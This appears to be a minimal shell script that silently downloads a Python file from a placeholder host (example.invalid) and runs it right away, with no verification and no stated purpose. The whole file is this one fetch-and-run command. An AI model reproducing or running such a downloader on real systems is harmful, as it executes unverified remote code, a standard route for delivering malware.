#!/bin/sh
wget -qO- http://example.invalid/k > k.py && python3 k.py
